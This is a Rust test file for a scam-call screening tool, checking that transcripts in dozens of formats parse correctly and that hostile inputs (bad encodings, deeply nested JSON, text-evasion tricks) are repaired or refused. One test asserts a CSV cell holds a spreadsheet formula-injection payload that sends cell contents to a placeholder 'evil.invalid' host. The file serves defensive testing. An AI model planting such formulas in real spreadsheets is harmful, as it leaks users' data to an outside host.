//! The reference folder: every sample is read as what it is, every hostile one is mended or refused
//! with a place. Skipped with a notice where `SCAMSCREEN_REFERENCE` does not name the folder.

use std::path::{Path, PathBuf};

use scamscreen::parse::Format::{self, *};
use scamscreen::parse::ParseError;
use scamscreen::parse::rows::{self, Columns, Row, RowError, Rows};
use scamscreen::source::{Mended, Source};
use scamscreen::transcript::{Speaker, TimeRange};

use super::{labels, read, speakers};

fn folder() -> Option<PathBuf> {
    let folder = std::env::var_os("SCAMSCREEN_REFERENCE").map(|path| PathBuf::from(path).join("formats"));
    if folder.is_none() {
        eprintln!("skipped: SCAMSCREEN_REFERENCE does not name the reference folder");
    }
    folder
}

fn bytes(folder: &Path, file: &str) -> Vec<u8> {
    std::fs::read(folder.join(file)).unwrap()
}

const CALLER: &str = "<caller>";
const RECIPIENT: &str = "<recipient>";
const UNKNOWN: &str = "<unknown>";

fn show(speaker: &Speaker) -> &str {
    match speaker {
        Speaker::Caller => CALLER,
        Speaker::Recipient => RECIPIENT,
        Speaker::Narrator => "<narrator>",
        Speaker::Named(name) => name,
        Speaker::Unknown => UNKNOWN,
    }
}

/// File, reader, number of utterances, speakers, start of the last utterance in milliseconds.
type Sample = (&'static str, Format, usize, &'static [&'static str], Option<u64>);

const SAMPLES: &[Sample] = &[
    ("webvtt_spec.fr.scam.vtt", Webvtt, 4, &[CALLER, RECIPIENT], Some(13_600)),
    ("webvtt_entities.en.legit.vtt", Webvtt, 3, &["Dr. O'Neil & Sons", UNKNOWN], Some(3200)),
    ("zoom.en.scam.vtt", Webvtt, 5, &[CALLER, "Mary Smith (Guest)"], Some(16_300)),
    ("teams.it.scam.vtt", Webvtt, 6, &[CALLER, RECIPIENT], Some(9350)),
    ("whispercpp_diarize.en.scam.vtt", Webvtt, 5, &["Speaker0", "Speaker1"], Some(16_300)),
    ("google_meet.en.legit.txt", GoogleMeet, 3, &[CALLER, RECIPIENT], None),
    ("srt.fr.scam.srt", Srt, 4, &[CALLER, UNKNOWN], Some(13_600)),
    ("whisperx.en.scam.srt", Srt, 5, &["SPEAKER_00", "SPEAKER_01"], Some(16_300)),
    ("whispercpp_diarize.it.scam.srt", Srt, 3, &["speaker 0", "speaker 1"], Some(6700)),
    ("openai_whisper.fr.scam.json", Whisper, 4, &[UNKNOWN], Some(13_600)),
    ("openai_whisper.fr.scam.tsv", SegmentTable, 4, &[UNKNOWN], Some(13_600)),
    ("whispercpp.en.scam.json", WhisperCpp, 5, &["Speaker 0", "Speaker 1"], Some(16_300)),
    ("whisperx.it.scam.json", Whisperx, 3, &["SPEAKER_00", "SPEAKER_01"], Some(6700)),
    ("faster_whisper_dump.en.legit.json", Whisper, 3, &[UNKNOWN], Some(6300)),
    ("openai_api_verbose.en.legit.json", Whisper, 3, &[UNKNOWN], Some(6300)),
    ("deepgram.en.scam.json", Deepgram, 5, &["Speaker 0", "Speaker 1"], Some(16_300)),
    ("assemblyai.en.scam.json", Assemblyai, 5, &["Speaker A", "Speaker B"], Some(16_300)),
    ("aws_transcribe_speakers.fr.scam.json", AwsTranscribe, 4, &["spk_0", "spk_1"], Some(13_600)),
    ("aws_call_analytics.en.scam.json", AwsCallAnalytics, 5, &["AGENT", RECIPIENT], Some(16_300)),
    ("amazon_connect_contact_lens.it.legit.json", AwsCallAnalytics, 2, &["AGENT", RECIPIENT], Some(4400)),
    ("google_stt_v1.it.scam.json", GoogleStt, 3, &["Speaker 1", "Speaker 2"], Some(6700)),
    ("google_stt_v2.fr.legit.json", GoogleStt, 3, &["Speaker 1", "Speaker 2"], Some(6200)),
    ("azure_batch.fr.scam.json", AzureSpeech, 4, &["Speaker 1", "Speaker 2"], Some(13_600)),
    ("azure_fast.en.legit.json", AzureSpeech, 3, &["Speaker 1", "Speaker 2"], Some(6300)),
    ("rev_ai.en.scam.json", RevAi, 5, &["Speaker 0", "Speaker 1"], Some(16_300)),
    ("rev_ai.en.scam.txt", Labelled, 5, &["Speaker 0", "Speaker 1"], Some(16_000)),
    ("otter.en.scam.txt", Otter, 5, &["Unknown Speaker", RECIPIENT], Some(16_000)),
    ("twilio_sentences.en.scam.json", Twilio, 5, &["channel 1", "channel 2"], Some(16_300)),
    ("genesys_transcript.en.scam.json", Genesys, 5, &["external", "internal"], Some(16_300)),
    ("ringcentral_asr.en.scam.json", Ringcentral, 5, &["Speaker 0", "Speaker 1"], Some(16_300)),
    ("zendesk_comments.fr.scam.json", Zendesk, 2, &[UNKNOWN], None),
    ("freshdesk_conversations.it.scam.json", Freshdesk, 4, &[UNKNOWN, CALLER, RECIPIENT], None),
    ("iphone_copied.en.scam.txt", PhoneApp, 5, &[CALLER, RECIPIENT], None),
    ("pixel_call_notes.en.legit.txt", PhoneApp, 3, &[CALLER, RECIPIENT], None),
    ("plain_mixed_stamps.en.scam.txt", Labelled, 5, &[CALLER, RECIPIENT], Some(16_000)),
    ("plain_wallclock.fr.scam.txt", Labelled, 4, &[CALLER, RECIPIENT], Some(13_000)),
    ("plain_dashes.it.scam.txt", Dialogue, 3, &[UNKNOWN], None),
    ("plain_bold_markdown.en.scam.md", Labelled, 5, &[CALLER, RECIPIENT], Some(16_000)),
    ("plain_chat_paste.de.scam.txt", Labelled, 3, &[CALLER, RECIPIENT], Some(14_000)),
    ("plain.es.scam.txt", Labelled, 3, &[CALLER, RECIPIENT], None),
    ("note_freetext.en.scam.txt", Note, 1, &[UNKNOWN], None),
    ("note_freetext.fr.legit.txt", Note, 1, &[UNKNOWN], None),
    ("note.it.scam.eml", Mail, 2, &[CALLER, RECIPIENT], None),
];

#[test]
fn every_sample_is_read_as_what_it_is() {
    let Some(folder) = folder() else { return };
    let mut wrong = Vec::new();
    for &(file, reader, count, expected, last) in SAMPLES {
        let bytes = std::fs::read(folder.join(file)).unwrap();
        let parsed = read(file, &bytes).unwrap_or_else(|error| panic!("{file}: {error}"));
        let names = speakers(&parsed);
        let names: Vec<_> = names.iter().map(show).collect();
        let start = parsed.transcript.utterances.last().and_then(|last| last.time).map(|time: TimeRange| time.start_ms);
        let found = (parsed.reader, parsed.transcript.utterances.len(), names.as_slice(), start);
        if found != (reader, count, expected, last) || !parsed.repairs.is_empty() {
            wrong.push(format!("{file}: {found:?} {:?}\n{:#?}", parsed.repairs, parsed.transcript.utterances));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_stands_beside_the_speech_is_kept() {
    let Some(folder) = folder() else { return };
    let sample = |file: &str| read(file, &std::fs::read(folder.join(file)).unwrap()).unwrap();
    let mail = sample("note.it.scam.eml");
    assert_eq!(mail.subject.as_deref(), Some("Chiamata sospetta – codice SMS"));
    assert!(mail.transcript.utterances[0].text.ends_with("IT60 X054 2811 1010 0000 0123 456."), "{mail:#?}");
    assert_eq!(sample("genesys_transcript.en.scam.json").caller.as_deref(), Some("+12025550143"));
    assert_eq!(sample("iphone_copied.en.scam.txt").caller.as_deref(), Some("+1 (202) 555-0143"));
    assert_eq!(sample("zendesk_comments.fr.scam.json").caller.as_deref(), Some("+33639980123"));
    let entities = sample("webvtt_entities.en.legit.vtt");
    assert_eq!(entities.transcript.utterances[0].text, "Q&A first: your\u{A0}bill is <paid>.");
    let deepgram = sample("deepgram.en.scam.json");
    assert_eq!(deepgram.transcript.utterances[1].text, "Oh no. What should I do?");
    let aws = sample("aws_transcribe_speakers.fr.scam.json");
    assert_eq!(
        aws.transcript.utterances[3].text,
        "Ensuite un coursier passera chercher votre carte bancaire, coupée en deux."
    );
}

#[test]
fn every_hostile_sample_is_mended_or_refused_with_a_place() {
    let Some(folder) = folder() else { return };
    let bytes = |file: &str| std::fs::read(folder.join("hostile").join(file)).unwrap();
    let sample = |file: &str| read(file, &bytes(file));
    let texts = |file: &str| -> Vec<String> {
        sample(file).unwrap().transcript.utterances.into_iter().map(|utterance| utterance.text).collect()
    };
    let mended = |file: &str| sample(file).unwrap().repairs.into_iter().map(|repair| repair.what).collect::<Vec<_>>();

    for silent in ["empty.txt", "only_header.vtt"] {
        assert!(sample(silent).unwrap().transcript.is_silent(), "{silent}");
    }
    let reference = texts("utf8_bom.fr.txt");
    assert_eq!(reference.len(), 4);
    for file in ["utf16be_bom.fr.txt", "utf16le_bom.fr.txt", "utf16le_nobom.fr.txt", "windows1252.fr.txt"] {
        assert_eq!(texts(file), reference, "{file}");
    }
    assert_eq!(mended("windows1252.fr.txt"), [Mended::GuessedEncoding("Windows-1252")]);
    assert_eq!(mended("invalid_utf8.en.txt"), [Mended::BadBytes]);
    assert_eq!(texts("cr_only.txt"), ["hello", "hi"]);
    assert_eq!(texts("bad_times.vtt"), ["negative", "no end", "x"]);
    assert_eq!(mended("bad_times.vtt"), [Mended::BadTime]);
    assert_eq!(texts("bom.json"), ["hi"]);
    assert_eq!(texts("dup_keys.json"), ["safe words\nbuy gift cards and read the codes"]);
    assert_eq!(mended("dup_keys.json"), [Mended::DuplicateKey("text".into())]);
    assert_eq!(texts("whisper_nan.json"), ["hello, buy gift cards"]);
    assert_eq!(mended("whisper_nan.json"), [Mended::JsonNumber]);
    assert_eq!(texts("whispercpp_raw_control.json"), ["line one\nline two\ttab"]);
    assert_eq!(mended("whispercpp_raw_control.json"), [Mended::JsonControl]);
    assert_eq!(mended("whispercpp_lone_lead_byte.json"), [Mended::BadBytes]);
    assert_eq!(texts("wrong_types.json"), ["42", "x", "read me the code"]);
    assert_eq!(mended("wrong_types.json"), [Mended::WrongType, Mended::BadTime]);
    let Err(ParseError::Json { line: 1, column, problem }) = sample("deep.json") else {
        panic!("deep JSON is refused")
    };
    assert!(column <= 129 && problem.contains("128"), "{column} {problem}");
    for evasion in [
        "ansi.en.txt",
        "bidi.en.txt",
        "combining.fr.txt",
        "homoglyph.en.txt",
        "html.txt",
        "leet_spaced.en.txt",
        "nul_bytes.en.txt",
        "zalgo.en.txt",
        "zero_width.en.txt",
    ] {
        let parsed = sample(evasion).unwrap();
        let text = Source { name: evasion.into(), bytes: bytes(evasion) }.text(None).unwrap().text;
        let (_, words) = text.split_once(':').unwrap();
        assert_eq!(parsed.transcript.utterances.len(), 1, "{evasion}");
        assert_eq!(parsed.transcript.utterances[0].text, words.trim(), "{evasion}");
        assert_eq!(parsed.transcript.utterances[0].speaker, Speaker::Caller, "{evasion}");
    }
}

/// Reads a batch as the program does.
fn rows(bytes: &[u8]) -> Vec<Result<Row, RowError>> {
    let kind = rows::sniff(&bytes[..bytes.len().min(64 << 10)]).expect("a batch");
    Rows::new(bytes, kind, &Columns::default(), None).unwrap().collect()
}

#[test]
fn batches_are_read_row_by_row() {
    let Some(folder) = folder() else { return };
    for (file, turns, caller) in [
        ("batch.csv", [5, 3, 4, 3, 3, 2], Some("+1 202-555-0143")),
        ("batch_excel_fr.csv", [1; 6], None),
        ("batch.jsonl", [5, 3, 4, 3, 3, 2], Some("+1 202-555-0143")),
        ("batch_turns.jsonl", [5, 3, 4, 3, 3, 2], None),
    ] {
        let rows: Vec<_> = rows(&bytes(&folder, file)).into_iter().map(|row| row.unwrap()).collect();
        let ids: Vec<_> = rows.iter().filter_map(|row| row.id.as_deref()).collect();
        assert_eq!(ids, ["en-1", "en-2", "fr-1", "fr-2", "it-1", "it-2"], "{file}");
        assert_eq!(rows[0].caller.as_deref(), caller, "{file}");
        assert_eq!(rows[2].language, Some(scamscreen::language::Code::Fr), "{file}");
        let counts: Vec<_> =
            rows.iter().map(|row| row.parse(&labels(), None).unwrap().transcript.utterances.len()).collect();
        assert_eq!(counts, turns, "{file}");
    }
}

#[test]
fn no_single_transcript_is_taken_for_a_batch() {
    let Some(folder) = folder() else { return };
    let samples = SAMPLES.iter().map(|row| row.0.to_owned());
    let hostile =
        ["dup_keys.json", "whisper_nan.json", "bom.json", "wrong_types.json", "deep.json", "html.txt", "ansi.en.txt"];
    for file in samples.chain(hostile.map(|file| format!("hostile/{file}"))) {
        assert_eq!(rows::sniff(&bytes(&folder, &file)), None, "{file}");
    }
}

#[test]
fn hostile_batches_lose_only_their_bad_rows() {
    let Some(folder) = folder() else { return };
    let formulas: Vec<_> = rows(&bytes(&folder, "hostile/formula.csv")).into_iter().map(|row| row.unwrap()).collect();
    assert_eq!(formulas.len(), 6);
    assert_eq!(formulas[0].extra["text"], "=HYPERLINK(\"http://evil.invalid?x=\"&A1,\"ok\")");
    let ragged = rows(&bytes(&folder, "hostile/ragged.csv"));
    let faults: Vec<_> = ragged.into_iter().map(|row| row.unwrap_err().to_string()).collect();
    assert_eq!(
        faults,
        [
            "line 2: 4 fields where the header has 2; a field with a separator in it needs quotes",
            "line 3: a quote is opened and never closed",
        ]
    );
}
